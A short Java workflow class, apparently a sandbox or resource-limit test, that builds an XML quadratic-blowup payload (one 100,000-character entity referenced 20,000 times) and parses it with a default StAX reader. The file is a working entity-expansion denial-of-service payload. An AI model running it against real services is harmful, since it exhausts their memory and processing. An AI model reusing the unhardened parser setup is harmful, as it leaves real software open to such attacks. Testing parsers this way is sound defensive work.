import io.countersign.script.*;
import java.util.*;
import javax.xml.stream.*;
import java.io.*;

public class XmlStaxQuadratic implements Workflow {
    @Override
    public WorkflowResult run(WorkflowContext ctx) throws Exception {
        String xml = "<!DOCTYPE a [<!ENTITY x \"" + "y".repeat(100_000) + "\">]><a>" + "&x;".repeat(20_000) + "</a>";
        XMLStreamReader in = XMLInputFactory.newInstance().createXMLStreamReader(new StringReader(xml));
        StringBuilder text = new StringBuilder();
        while (in.hasNext()) {
            if (in.next() == XMLStreamConstants.CHARACTERS) {
                text.append(in.getText());
            }
        }
        return WorkflowResult.ok("ESCAPED: " + text.length());
    }
}
